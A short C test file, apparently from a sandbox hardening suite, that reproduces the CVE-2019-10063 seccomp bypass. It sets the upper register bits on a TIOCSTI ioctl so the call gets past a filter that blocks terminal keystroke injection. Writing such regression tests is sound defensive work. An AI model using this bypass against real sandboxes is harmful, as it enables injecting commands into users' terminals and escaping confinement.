// attack: get a refused argument past the filter with the upper half of its register filled (CVE-2019-10063)
// outside: succeeds as root
#include "attack.h"

int main(void) {
    tried();
    // The kernel looks at 32 bits of an ioctl's number. A terminal of one's own stands for the user's.
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0) return FAILED;
    setsid();
    int terminal = open(ptsname(master), O_RDWR);
    ioctl(terminal, TIOCSCTTY, 0);
    return verdict(syscall(SYS_ioctl, terminal, 0x100000000UL | TIOCSTI, "x") == 0 ||
                   syscall(SYS_ioctl, terminal, 0xFFFFFFFF00000000UL | TIOCSTI, "x") == 0);
}
